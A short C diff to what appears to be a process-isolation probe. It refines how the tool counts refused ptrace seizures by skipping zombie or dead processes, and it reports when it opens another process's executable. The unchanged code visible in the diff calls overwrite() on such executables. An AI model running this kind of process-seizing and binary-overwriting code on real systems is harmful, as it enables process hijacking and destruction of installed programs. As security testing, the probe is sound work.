@@ -65,6 +65,21 @@ static const char *next_process(DIR *proc)
     return NULL;
 }
 
+/* One that has ended refuses too, which shows nothing. */
+static int has_ended(pid_t pid)
+{
+    char path[64], text[256] = {0}, *state;
+    int fd;
+
+    snprintf(path, sizeof(path), "/proc/%d/stat", pid);
+    fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        return 1;
+    state = read(fd, text, sizeof(text) - 1) > 0 ? strrchr(text, ')') : NULL;
+    close(fd);
+    return !state || strchr("ZX", state[2]) != NULL;
+}
+
 static void let_go(pid_t pid)
 {
     int status;
@@ -97,7 +112,7 @@ static int cmd_seize(char **argv)
             if (seen[pid & 0xffff])
                 continue;
             if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
-                refused += errno == EPERM;
+                refused += errno == EPERM && !has_ended(pid);
                 continue;
             }
             seen[pid & 0xffff] = 1;
@@ -163,7 +178,8 @@ static int cmd_stealexe(char **argv)
                 continue;
             if (fstat(fd, &other) == 0 &&
                 (other.st_ino != own.st_ino || other.st_dev != own.st_dev)) {
-                opened++;
+                if (opened++ == 0)
+                    say("opened one");
                 if (overwrite(fd))
                     say("wrote");
             }
